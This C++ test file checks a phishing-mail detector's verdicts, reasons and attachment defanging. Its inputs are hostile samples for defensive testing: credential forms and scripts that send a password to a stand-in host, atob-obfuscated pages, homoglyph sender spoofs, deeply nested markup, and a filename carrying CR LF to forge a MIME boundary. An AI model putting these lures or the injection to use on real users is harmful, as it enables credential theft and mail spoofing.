#include "server/mail/message_checker.h"

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <memory>
#include <sstream>
#include <string>
#include <vector>

#include "absl/strings/escaping.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_join.h"
#include "absl/strings/str_split.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "lureguard/v1/verdict.pb.h"
#include "server/lists/list_snapshot.h"
#include "server/lookalike/brand.h"
#include "server/lookalike/brand_index.h"
#include "tests/fakes/fake_clock.h"
#include "tests/testing/mail_checker_stack.h"

namespace lureguard::mail {
namespace {

using ::testing::AllOf;
using ::testing::Contains;
using ::testing::Field;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;
using verdict::Action;
using verdict::Reason;
using verdict::ReasonCode;

const std::string kDataDir =
    std::string(LUREGUARD_SOURCE_DIR) + "/tests/data/mail/";

std::string ReadFile(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream buffer;
  buffer << in.rdbuf();
  return buffer.str();
}

std::string CodeName(ReasonCode code) {
  return v1::ReasonCode_Name(static_cast<v1::ReasonCode>(code));
}

std::vector<std::string> Codes(const verdict::Verdict& v) {
  std::vector<std::string> codes;
  for (const Reason& r : v.reasons) codes.push_back(CodeName(r.code));
  return codes;
}

const Reason* Find(const verdict::Verdict& v, ReasonCode code) {
  for (const Reason& r : v.reasons) {
    if (r.code == code) return &r;
  }
  return nullptr;
}

// A Clock that moves on by `step` every time it is read: a message check
// that reads it per part runs out of time after a few parts.
class TickingClock final : public Clock {
 public:
  explicit TickingClock(absl::Duration step) : step_(step) {}
  absl::Time Now() const override {
    return absl::FromUnixSeconds(1767225600) + step_ * ticks_++;
  }

 private:
  const absl::Duration step_;
  mutable std::atomic<int64_t> ticks_{0};
};

// A real engine (default brands plus Haier Biomedical; one block-list and
// one allow-list entry), a real SQLite store and link protector, and mail
// policies.
class MessageCheckerTest : public ::testing::Test {
 protected:
  MessageCheckerTest() : stack_(Snapshot(), *Policies({}), clock_) {}

  static std::shared_ptr<const verdict::EngineSnapshot> Snapshot() {
    std::vector<store::ListEntryRecord> entries(2);
    entries[0].kind = store::EntryKind::kDomain;
    entries[0].value = "known-phish.example";
    entries[1].list = store::ListType::kAllow;
    entries[1].kind = store::EntryKind::kDomain;
    entries[1].value = "haier-partners.com";
    auto snapshot = std::make_shared<verdict::EngineSnapshot>();
    snapshot->lists = lists::ListSnapshot::Build(entries);
    std::vector<lookalike::Brand> brands = lookalike::DefaultBrands();
    brands.push_back({.name = "Haier Biomedical",
                      .domains = {"haiermedical.com", "haier.com"},
                      .tokens = {"haier"}});
    absl::StatusOr<lookalike::BrandIndex> index =
        lookalike::BrandIndex::Build(std::move(brands));
    EXPECT_TRUE(index.ok()) << index.status();
    snapshot->brands =
        std::make_shared<const lookalike::BrandIndex>(*std::move(index));
    return snapshot;
  }

  // The global organisation is Acme Logistics (acme-logistics.example);
  // tenant "defang" defangs attachments; mx.acme-logistics.example is the
  // trusted receiving server.
  static absl::StatusOr<MailPolicies> Policies(MailLimits limits) {
    return MailPolicies::Create({.own_domains = {"acme-logistics.example"},
                                 .own_name = "Acme Logistics"},
                                {{"defang",
                                  {.own_domains = {"acme-logistics.example"},
                                   .own_name = "Acme Logistics",
                                   .defang_attachments = true}}},
                                {"mx.acme-logistics.example"}, limits);
  }

  void SetPolicies(MailLimits limits, const Clock* clock = nullptr) {
    absl::StatusOr<MailPolicies> policies = Policies(limits);
    ASSERT_TRUE(policies.ok()) << policies.status();
    stack_.Reset(*std::move(policies), clock);
  }

  MessageChecker& checker() { return stack_.checker(); }

  MessageCheck Check(const std::string& message, const std::string& tenant = "",
                     const std::string& envelope_sender = "") {
    absl::StatusOr<MessageCheck> check =
        checker().Check({.message = message,
                         .tenant = tenant,
                         .envelope_sender = envelope_sender});
    EXPECT_TRUE(check.ok()) << check.status();
    return check.ok() ? *std::move(check) : MessageCheck{};
  }

  FakeClock clock_;
  testing::MailCheckerStack stack_;
};

// Every message of tests/data/mail/expected.tsv gets its expected action
// and carries the reasons listed.
TEST(RewriteRecipients, OnlyAnAddressCountsAsARecipient) {
  EXPECT_EQ(RewriteRecipients("ann@acme.example"),
            std::vector<std::string>{"ann@acme.example"});
  EXPECT_TRUE(RewriteRecipients("").empty());
  EXPECT_TRUE(RewriteRecipients("user-4711").empty());
  EXPECT_TRUE(RewriteRecipients("Ann <ann@acme.example>").empty());
  EXPECT_TRUE(RewriteRecipients("ann@acme.example\r\nBcc: x@y").empty());
  EXPECT_TRUE(RewriteRecipients("ann@acme.example\t").empty());
}

TEST_F(MessageCheckerTest, CorpusGetsItsExpectedVerdicts) {
  const std::string manifest = ReadFile(kDataDir + "expected.tsv");
  ASSERT_FALSE(manifest.empty());
  int checked = 0;
  for (absl::string_view line : absl::StrSplit(manifest, '\n')) {
    if (line.empty() || line[0] == '#') continue;
    std::vector<std::string> fields = absl::StrSplit(line, '\t');
    ASSERT_GE(fields.size(), 2u) << line;
    SCOPED_TRACE(fields[0]);
    const MessageCheck check = Check(ReadFile(kDataDir + fields[0]));
    v1::Action expected;
    ASSERT_TRUE(v1::Action_Parse(fields[1], &expected));
    EXPECT_EQ(static_cast<int>(check.verdict.action), expected)
        << "score " << check.verdict.score << " reasons "
        << absl::StrJoin(Codes(check.verdict), ",");
    if (fields.size() > 2 && !fields[2].empty()) {
      for (absl::string_view code : absl::StrSplit(fields[2], ',')) {
        EXPECT_THAT(Codes(check.verdict), Contains(std::string(code)));
      }
    }
    EXPECT_FALSE(check.verdict.degraded) << absl::StrJoin(check.notes, "; ");
    ++checked;
  }
  EXPECT_EQ(checked, 16);
}

TEST_F(MessageCheckerTest, CampaignReasonsNameTheirPartBrandAndEvidence) {
  const MessageCheck check =
      Check(ReadFile(kDataDir + "campaign_attachment.eml"));
  ASSERT_EQ(check.verdict.action, Action::kBlock);
  const Reason* sender = Find(check.verdict, ReasonCode::kMailSenderLookalike);
  ASSERT_NE(sender, nullptr);
  EXPECT_EQ(sender->part, "From");
  EXPECT_EQ(sender->brand, "Haier Biomedical");
  EXPECT_THAT(sender->detail, HasSubstr("haier-biomedical.com"));
  const Reason* form = Find(check.verdict, ReasonCode::kMailCredentialForm);
  ASSERT_NE(form, nullptr);
  EXPECT_EQ(form->part, "2");
  EXPECT_EQ(form->filename, "RFQ_CCEOP_2020.html");
  EXPECT_EQ(form->technique, "form-action");
  EXPECT_EQ(form->url, "https://procurement-cceop.com/cc/next.php");
  EXPECT_GE(form->weight, 0.9);
  EXPECT_THAT(form->detail, HasSubstr("procurement-cceop.com"));
  EXPECT_THAT(form->detail, HasSubstr("attack itself"));
  const Reason* reply = Find(check.verdict, ReasonCode::kMailReplyToDiverges);
  ASSERT_NE(reply, nullptr);
  EXPECT_EQ(reply->technique, "free-mail");
  EXPECT_EQ(reply->matched, "gmail.com");
  const Reason* name = Find(check.verdict, ReasonCode::kMailDisplayNameSpoof);
  ASSERT_NE(name, nullptr);
  EXPECT_EQ(name->matched, "Haier Biomedical");
  // The page is pre-filled with the To address.
  const Reason* prefilled =
      Find(check.verdict, ReasonCode::kMailRecipientPrefilled);
  ASSERT_NE(prefilled, nullptr);
  EXPECT_EQ(prefilled->matched, "procurement@acme-logistics.example");
  // Parts: the body and the attachment, with its sink judged.
  ASSERT_EQ(check.parts.size(), 2u);
  EXPECT_FALSE(check.parts[0].attachment);
  EXPECT_TRUE(check.parts[1].inspected);
  ASSERT_EQ(check.parts[1].sinks.size(), 1u);
  EXPECT_EQ(check.parts[1].sinks[0].kind, "form-action");
  EXPECT_FALSE(check.parts[1].sinks[0].verdict.verdict_id.empty());
  EXPECT_EQ(check.sender.from_address, "sales@haier-biomedical.com");
  EXPECT_EQ(check.sender.reply_to_address, "haier.quotation@gmail.com");
}

TEST_F(MessageCheckerTest, ObfuscatedPageIsReadAfterDecoding) {
  const MessageCheck check =
      Check(ReadFile(kDataDir + "campaign_obfuscated.eml"));
  const Reason* form = Find(check.verdict, ReasonCode::kMailCredentialForm);
  ASSERT_NE(form, nullptr);
  EXPECT_THAT(form->technique, HasSubstr("after-atob"));
  EXPECT_GE(form->weight, 0.95);
  const Reason* hidden =
      Find(check.verdict, ReasonCode::kMailObfuscatedContent);
  ASSERT_NE(hidden, nullptr);
  EXPECT_THAT(hidden->technique, HasSubstr("atob"));
}

TEST_F(MessageCheckerTest, PagesInNestedArchivesAreReadAndNamed) {
  const MessageCheck check = Check(ReadFile(kDataDir + "nested_zip.eml"));
  const Reason* form = Find(check.verdict, ReasonCode::kMailCredentialForm);
  ASSERT_NE(form, nullptr);
  EXPECT_EQ(form->part, "2/docs/Invoice_88214.zip/Invoice_88214.html");
  EXPECT_EQ(form->filename, "Invoice_88214.html");
  ASSERT_EQ(check.parts.size(), 4u);
  EXPECT_EQ(check.parts[2].content_type, "application/zip");
  EXPECT_TRUE(check.parts[2].inspected);
}

TEST_F(MessageCheckerTest, TenantOwnDomainLookalikeIsCaught) {
  const std::string message =
      "From: IT Desk <it@acmelogistics.example>\r\n"
      "To: bob@acme-logistics.example\r\nSubject: password expiry\r\n\r\n"
      "Your password expires today.\r\n";
  const MessageCheck check = Check(message);
  const Reason* sender = Find(check.verdict, ReasonCode::kMailSenderLookalike);
  ASSERT_NE(sender, nullptr);
  EXPECT_EQ(sender->brand, "Acme Logistics");
  EXPECT_EQ(sender->matched, "acme-logistics.example");
  // The organisation writing from its own domain is no lookalike.
  const MessageCheck own = Check(
      "From: IT Desk <it@acme-logistics.example>\r\nSubject: x\r\n\r\nhi\r\n");
  EXPECT_EQ(own.verdict.action, Action::kAllow);
  EXPECT_THAT(own.verdict.reasons, IsEmpty());
}

TEST_F(MessageCheckerTest, DisplayNameNamingTheTenantFromOutsideIsASpoof) {
  const MessageCheck check = Check(
      "From: \"Acme Logistics Payroll\" <payroll@pay-portal.example>\r\n"
      "Subject: x\r\n\r\nhi\r\n");
  const Reason* name = Find(check.verdict, ReasonCode::kMailDisplayNameSpoof);
  ASSERT_NE(name, nullptr);
  EXPECT_EQ(name->brand, "Acme Logistics");
  EXPECT_EQ(name->part, "From");
}

TEST_F(MessageCheckerTest, DisplayNameWithLookAlikeLettersIsASpoof) {
  // "PаyPal" with a Cyrillic а, from a free-mail account.
  const MessageCheck check = Check(
      "From: =?utf-8?b?UNCweVBhbCBTZXJ2aWNl?= <pp.service@outlook.com>\r\n"
      "Subject: x\r\n\r\nhi\r\n");
  EXPECT_EQ(check.sender.from_display_name, "P\xD0\xB0yPal Service");
  const Reason* name = Find(check.verdict, ReasonCode::kMailDisplayNameSpoof);
  ASSERT_NE(name, nullptr);
  EXPECT_EQ(name->brand, "PayPal");
  EXPECT_EQ(name->technique, "brand-name,free-mail");
  EXPECT_EQ(check.verdict.action, Action::kWarn);
}

// The campaign's page in UTF-16LE with a byte-order mark, sent as a
// generic octet-stream with no telling file name; `broken` puts a lone low
// surrogate after every '>' and an odd byte at the end.
std::string Utf16PageMessage(bool broken) {
  const std::string page =
      "<html><body><form action=\"https://evil.example/p\">"
      "<input type=password name=pw></form></body></html>";
  std::string utf16 = "\xFF\xFE";
  for (char c : page) {
    utf16.push_back(c);
    utf16.push_back('\0');
    if (broken && c == '>') utf16.append("\x00\xDC", 2);
  }
  if (broken) utf16.push_back('x');
  return absl::StrCat(
      "From: a@b.example\r\nMIME-Version: 1.0\r\n"
      "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
      "Content-Type: text/plain\r\n\r\nsee attached\r\n--x\r\n"
      "Content-Type: application/octet-stream\r\n"
      "Content-Disposition: attachment; filename=\"scan\"\r\n"
      "Content-Transfer-Encoding: base64\r\n\r\n",
      absl::Base64Escape(utf16), "\r\n--x--\r\n");
}

TEST_F(MessageCheckerTest, Utf16AttachmentIsReadAsItsBrowserWould) {
  const MessageCheck check = Check(Utf16PageMessage(/*broken=*/false));
  const Reason* form = Find(check.verdict, ReasonCode::kMailCredentialForm);
  ASSERT_NE(form, nullptr);
  EXPECT_EQ(form->part, "2");
  EXPECT_EQ(form->url, "https://evil.example/p");
  EXPECT_EQ(check.verdict.action, Action::kBlock);
}

TEST_F(MessageCheckerTest, Utf16AttachmentWithABrokenUnitIsStillRead) {
  // Invalid UTF-16 that a browser shows as U+FFFD. Read as raw bytes
  // instead, the page had no form to find.
  const MessageCheck check = Check(Utf16PageMessage(/*broken=*/true));
  const Reason* form = Find(check.verdict, ReasonCode::kMailCredentialForm);
  ASSERT_NE(form, nullptr);
  EXPECT_EQ(form->url, "https://evil.example/p");
  EXPECT_EQ(check.verdict.action, Action::kBlock);
}

// An HTML attachment around `page`, as the campaign sent its own.
std::string MessageWithPage(const std::string& page) {
  return absl::StrCat(
      "From: a@b.example\r\nMIME-Version: 1.0\r\n"
      "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
      "Content-Type: text/plain\r\n\r\nsee attached\r\n--x\r\n"
      "Content-Type: text/html\r\n"
      "Content-Disposition: attachment; filename=\"quote.html\"\r\n"
      "Content-Transfer-Encoding: base64\r\n\r\n",
      absl::Base64Escape(page), "\r\n--x--\r\n");
}

// gumbo needs ~20 s for 25,000 nested elements (red-team pass: one such
// attachment held a core for minutes): deeper ones are read as siblings,
// and the form inside them is still found.
TEST_F(MessageCheckerTest, DeeplyNestedMarkupIsReadInTime) {
  std::string page;
  for (int i = 0; i < 25000; ++i) page += "<div>";
  page +=
      "<form action=\"https://evil.example/p\"><input type=password "
      "name=pw></form>";
  const absl::Time start = absl::Now();
  const MessageCheck check = Check(MessageWithPage(page));
  EXPECT_LT(absl::Now() - start, absl::Seconds(10));  // ~20 s unbounded
  const Reason* form = Find(check.verdict, ReasonCode::kMailCredentialForm);
  ASSERT_NE(form, nullptr);
  EXPECT_EQ(form->url, "https://evil.example/p");
  EXPECT_EQ(check.verdict.action, Action::kBlock);
  EXPECT_THAT(check.notes, Contains(HasSubstr("nested deeper than 1024")));
}

// A file that asks for a password and hides where it goes blocks as one
// that names it: the script is how the password leaves.
TEST_F(MessageCheckerTest, AnAttachmentHidingWhereThePasswordGoesBlocks) {
  for (const std::string script :
       {"document.forms[0].setAttribute('action', u);",
        "new Image().src = u + '?p=' + document.forms[0].pw.value;",
        "var u = ['https:', '', 'evil.example', 'p.php'].join('/');"}) {
    SCOPED_TRACE(script);
    const MessageCheck check = Check(MessageWithPage(
        "<html><body><form><input name=user><input type=password name=pw>"
        "<button>Sign in</button></form><script>var u = 'x';" +
        script + "</script></body></html>"));
    const Reason* form = Find(check.verdict, ReasonCode::kMailCredentialForm);
    ASSERT_NE(form, nullptr);
    EXPECT_GE(form->weight, 0.85);
    EXPECT_EQ(check.verdict.action, Action::kBlock);
  }
}

// links.max_links (5,000) bounds the links judged; a message with more is
// not answered as if all had been (red-team pass: 5,000 harmless links
// and a lure last were ALLOW, not degraded).
TEST_F(MessageCheckerTest, LinksPastTheLimitDegradeTheVerdict) {
  std::string body;
  for (int i = 0; i < 5000; ++i) {
    absl::StrAppend(&body, "https://h", i, ".example/\r\n");
  }
  body += "https://www.paypa1.com/signin\r\n";
  const MessageCheck check =
      Check("From: a@b.example\r\nSubject: links\r\n\r\n" + body);
  EXPECT_TRUE(check.verdict.degraded);
  EXPECT_THAT(check.notes,
              Contains("links: 1 link(s) past links.max_links were neither "
                       "judged nor rewritten"));
}

// A lure forwarded as an attached message is still a lure: its links are
// judged (RewriteMessage keeps its bytes). Red-team pass: ALLOW 0.00.
TEST_F(MessageCheckerTest, LinksOfAForwardedMessageAreJudged) {
  const std::string message =
      "From: colleague@acme-logistics.example\r\nMIME-Version: 1.0\r\n"
      "Content-Type: multipart/mixed; boundary=b\r\n\r\n"
      "--b\r\nContent-Type: text/plain\r\n\r\nFYI, is this real?\r\n"
      "--b\r\nContent-Type: message/rfc822\r\n"
      "Content-Disposition: attachment; filename=\"fwd.eml\"\r\n\r\n"
      "From: service@example.net\r\nSubject: Your account\r\n"
      "Content-Type: text/plain\r\n\r\n"
      "Sign in at https://www.paypa1.com/signin today.\r\n"
      "\r\n--b--\r\n";
  const MessageCheck check = Check(message);
  ASSERT_NE(Find(check.verdict, ReasonCode::kLookalikeHomoglyph), nullptr)
      << absl::StrJoin(Codes(check.verdict), ",");
  EXPECT_EQ(check.verdict.action, Action::kBlock);
  absl::StatusOr<MessageRewrite> rewrite = checker().Rewrite(
      {.message = message}, "procurement@acme-logistics.example");
  ASSERT_TRUE(rewrite.ok()) << rewrite.status();
  EXPECT_THAT(rewrite->rewrite.content,
              HasSubstr("https://www.paypa1.com/signin today."));
  EXPECT_EQ(rewrite->check.verdict.action, Action::kBlock);
}

// A page that decodes itself past max_decode_depth is not answered as if
// it had been read whole.
TEST_F(MessageCheckerTest, DecodingStoppedAtALimitDegrades) {
  std::string page =
      "<form action=\"https://evil.example/p\"><input type=password></form>";
  for (int layer = 0; layer < 6; ++layer) {
    page = absl::StrCat("<script>document.write(atob('",
                        absl::Base64Escape(page), "'));</script>");
  }
  const MessageCheck check = Check(MessageWithPage(page));
  EXPECT_TRUE(check.verdict.degraded);
  EXPECT_THAT(check.notes, Contains(HasSubstr("max_decode_depth (4 layers)")));
}

TEST_F(MessageCheckerTest, BrandsFreeMailServiceIsNotTheBrandWriting) {
  // Microsoft owns outlook.com, and so does anyone with an account there.
  const MessageCheck spoof = Check(
      "From: \"Microsoft Account Team\" <ms.security.team@outlook.com>\r\n"
      "Subject: x\r\n\r\nhi\r\n");
  const Reason* name = Find(spoof.verdict, ReasonCode::kMailDisplayNameSpoof);
  ASSERT_NE(name, nullptr);
  EXPECT_EQ(name->brand, "Microsoft");
  // Microsoft writing from its own mail domains is not.
  for (const char* from :
       {"\"Microsoft account team\" <account-security-noreply@"
        "accountprotection.microsoft.com>",
        "\"Microsoft Teams\" <noreply@email.teams.microsoft.com>",
        "\"Microsoft Teams\" <no-reply@teams.mail.microsoft>"}) {
    const MessageCheck own =
        Check(absl::StrCat("From: ", from, "\r\nSubject: x\r\n\r\nhi\r\n"));
    EXPECT_EQ(own.verdict.action, Action::kAllow) << from;
    EXPECT_THAT(own.verdict.reasons, IsEmpty()) << from;
  }
}

TEST_F(MessageCheckerTest, TrustedDmarcFailOnABrandDomainBlocks) {
  const std::string message =
      "Authentication-Results: mx.acme-logistics.example;\r\n"
      "  spf=fail smtp.mailfrom=paypal.com;\r\n"
      "  dmarc=fail (p=reject) header.from=paypal.com\r\n"
      "From: PayPal <service@paypal.com>\r\nSubject: x\r\n\r\nhi\r\n";
  const MessageCheck check = Check(message);
  const Reason* auth = Find(check.verdict, ReasonCode::kMailAuthFailed);
  ASSERT_NE(auth, nullptr);
  EXPECT_EQ(auth->brand, "PayPal");
  EXPECT_EQ(auth->part, "Authentication-Results");
  EXPECT_EQ(check.sender.dmarc, "fail");
  EXPECT_EQ(check.verdict.action, Action::kBlock);
}

TEST_F(MessageCheckerTest, UntrustedAuthenticationResultsAreIgnored) {
  const std::string message =
      "Authentication-Results: mx.attacker.example; dmarc=fail "
      "header.from=paypal.com\r\n"
      "From: PayPal <service@paypal.com>\r\nSubject: x\r\n\r\nhi\r\n";
  const MessageCheck check = Check(message);
  EXPECT_EQ(Find(check.verdict, ReasonCode::kMailAuthFailed), nullptr);
  EXPECT_EQ(check.sender.dmarc, "");
  EXPECT_EQ(check.verdict.action, Action::kAllow);
}

TEST_F(MessageCheckerTest, ListedSenderDomainsFollowTheLists) {
  MessageCheck listed =
      Check("From: a@mail.known-phish.example\r\nSubject: x\r\n\r\nhi\r\n");
  const Reason* block = Find(listed.verdict, ReasonCode::kBlocklistMatch);
  ASSERT_NE(block, nullptr);
  EXPECT_EQ(block->part, "From");
  EXPECT_EQ(listed.verdict.action, Action::kBlock);
  // An allow-listed lookalike of Haier is the admin's word: no lookalike.
  MessageCheck allowed =
      Check("From: a@haier-partners.com\r\nSubject: x\r\n\r\nhi\r\n");
  EXPECT_EQ(Find(allowed.verdict, ReasonCode::kMailSenderLookalike), nullptr);
  // The envelope sender is judged too.
  MessageCheck envelope =
      Check("From: a@acme-logistics.example\r\nSubject: x\r\n\r\nhi\r\n", "",
            "bounce@haier-biomedical.com");
  const Reason* sender =
      Find(envelope.verdict, ReasonCode::kMailSenderLookalike);
  ASSERT_NE(sender, nullptr);
  EXPECT_EQ(sender->part, "Envelope-From");
}

TEST_F(MessageCheckerTest, NotMimeIsJudgedDegradedNotRefused) {
  const MessageCheck check = Check("\x01\x02 no header section at all");
  EXPECT_TRUE(check.verdict.degraded);
  EXPECT_EQ(check.verdict.action, Action::kAllow);
  EXPECT_THAT(check.notes, Contains(HasSubstr("MIME")));
}

TEST_F(MessageCheckerTest, BadInputIsInvalidArgumentNamingTheField) {
  absl::StatusOr<MessageCheck> empty = checker().Check({.message = ""});
  EXPECT_TRUE(absl::IsInvalidArgument(empty.status()));
  EXPECT_THAT(empty.status().message(), HasSubstr("message:"));
  absl::StatusOr<MessageCheck> recipient = checker().Check(
      {.message = "From: a@b.example\r\n\r\nx", .recipients = {"bob"}});
  EXPECT_TRUE(absl::IsInvalidArgument(recipient.status()));
  EXPECT_THAT(recipient.status().message(), HasSubstr("recipients[0]"));
  SetPolicies({.max_message_bytes = 100});
  absl::StatusOr<MessageCheck> big =
      checker().Check({.message = std::string(101, 'x')});
  EXPECT_TRUE(absl::IsInvalidArgument(big.status()));
  EXPECT_THAT(big.status().message(), HasSubstr("the limit is 100"));
}

TEST_F(MessageCheckerTest, PartOverTheLimitIsSkippedAndDegraded) {
  SetPolicies({.max_part_bytes = 200});
  const MessageCheck check =
      Check(ReadFile(kDataDir + "campaign_attachment.eml"));
  EXPECT_TRUE(check.verdict.degraded);
  EXPECT_THAT(check.parts[1].skipped, HasSubstr("max_part_bytes"));
  EXPECT_EQ(Find(check.verdict, ReasonCode::kMailCredentialForm), nullptr);
}

TEST_F(MessageCheckerTest, DeadlineSkipsTheRestAndDegrades) {
  TickingClock ticking(absl::Seconds(1));
  SetPolicies({.deadline = absl::Milliseconds(1500)}, &ticking);
  const MessageCheck check = Check(ReadFile(kDataDir + "zip_attachment.eml"));
  EXPECT_TRUE(check.verdict.degraded);
  EXPECT_THAT(check.notes, Contains(HasSubstr("deadline")));
}

TEST_F(MessageCheckerTest, RewriteCarriesTheSameVerdictAndDefangs) {
  const std::string message = ReadFile(kDataDir + "campaign_attachment.eml");
  absl::StatusOr<MessageRewrite> kept = checker().Rewrite(
      {.message = message}, "procurement@acme-logistics.example");
  ASSERT_TRUE(kept.ok()) << kept.status();
  EXPECT_EQ(kept->check.verdict.action, Action::kBlock);
  EXPECT_EQ(Codes(kept->check.verdict), Codes(Check(message).verdict));
  EXPECT_THAT(kept->defanged, IsEmpty());
  EXPECT_THAT(kept->rewrite.content, HasSubstr("RFQ_CCEOP_2020.html"));

  absl::StatusOr<MessageRewrite> defanged =
      checker().Rewrite({.message = message, .tenant = "defang"}, "");
  ASSERT_TRUE(defanged.ok()) << defanged.status();
  ASSERT_EQ(defanged->defanged.size(), 1u);
  EXPECT_EQ(defanged->defanged[0].part, "2");
  EXPECT_EQ(defanged->defanged[0].filename, "RFQ_CCEOP_2020.html");
  EXPECT_THAT(defanged->defanged[0].codes,
              Contains(ReasonCode::kMailCredentialForm));
  const std::string& out = defanged->rewrite.content;
  EXPECT_THAT(out, HasSubstr("filename=\"RFQ_CCEOP_2020.html.txt\""));
  EXPECT_THAT(out, HasSubstr("Lureguard removed the attachment"));
  EXPECT_THAT(out, Not(HasSubstr("Content-Type: text/html")));
  // Everything before the attachment's part is byte-identical, and the
  // closing boundary is still there.
  const size_t part_start = message.find("Content-Type: text/html");
  ASSERT_NE(part_start, std::string::npos);
  EXPECT_EQ(out.substr(0, part_start),
            kept->rewrite.content.substr(0, part_start));
  const size_t close = message.rfind("--");
  EXPECT_THAT(out, HasSubstr(message.substr(message.rfind("\r\n--", close))));
  // The defanged message reads as ALLOW on its attachments now.
  const MessageCheck again = Check(out);
  EXPECT_EQ(Find(again.verdict, ReasonCode::kMailCredentialForm), nullptr);
}

TEST_F(MessageCheckerTest, AZipMemberDefangsItsArchive) {
  absl::StatusOr<MessageRewrite> out = checker().Rewrite(
      {.message = ReadFile(kDataDir + "nested_zip.eml"), .tenant = "defang"},
      "");
  ASSERT_TRUE(out.ok()) << out.status();
  ASSERT_EQ(out->defanged.size(), 1u);
  EXPECT_EQ(out->defanged[0].part, "2");
  EXPECT_EQ(out->defanged[0].filename, "Invoice_pack.zip");
  EXPECT_THAT(out->rewrite.content,
              HasSubstr("filename=\"Invoice_pack.zip.txt\""));
  EXPECT_THAT(out->rewrite.content, Not(HasSubstr("application/zip")));
}

TEST_F(MessageCheckerTest, AFileNameCannotForgeABoundaryInTheNotice) {
  // RFC 2231 lets a file name carry CR LF; the notice quotes the name.
  const std::string page =
      "<form action=\"https://evil.example/p\"><input type=password></form>";
  const std::string message = absl::StrCat(
      "From: a@b.example\r\nMIME-Version: 1.0\r\n"
      "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
      "Content-Type: text/plain\r\n\r\nsee attached\r\n--x\r\n"
      "Content-Type: text/html\r\nContent-Disposition: attachment;\r\n"
      " filename*=utf-8''a%0D%0A--x%0D%0AContent-Type:%20text/html%0D%0A.html"
      "\r\n\r\n",
      page, "\r\n--x--\r\n");
  absl::StatusOr<MessageRewrite> out =
      checker().Rewrite({.message = message, .tenant = "defang"}, "");
  ASSERT_TRUE(out.ok()) << out.status();
  ASSERT_EQ(out->defanged.size(), 1u);
  const std::string& content = out->rewrite.content;
  // The two parts' delimiters and the closing one: none forged by the
  // name.
  size_t delimiters = 0;
  for (size_t at = content.find("\n--x"); at != std::string::npos;
       at = content.find("\n--x", at + 1)) {
    ++delimiters;
  }
  EXPECT_EQ(delimiters, 3u) << content;
  EXPECT_EQ(Check(content).parts.size(), 2u);
}

TEST_F(MessageCheckerTest, ChecksHaveNoSideEffects) {
  const std::string message = ReadFile(kDataDir + "brand_spoof_link.eml");
  const MessageCheck check = Check(message);
  ASSERT_EQ(check.links.size(), 1u);
  EXPECT_EQ(check.links[0].rewritten_url, "");
  const Reason* link = Find(check.verdict, ReasonCode::kLookalikeHomoglyph);
  if (link == nullptr) {
    link = Find(check.verdict, ReasonCode::kLookalikeCombosquat);
  }
  ASSERT_NE(link, nullptr);
  EXPECT_EQ(link->part, "1");
  EXPECT_EQ(link->url, "https://paypa1-resolution-center.com/signin");
  absl::StatusOr<store::ClickPage> clicks = stack_.store().ListClicks({});
  ASSERT_TRUE(clicks.ok());
  EXPECT_THAT(clicks->clicks, IsEmpty());
}

}  // namespace
}  // namespace lureguard::mail
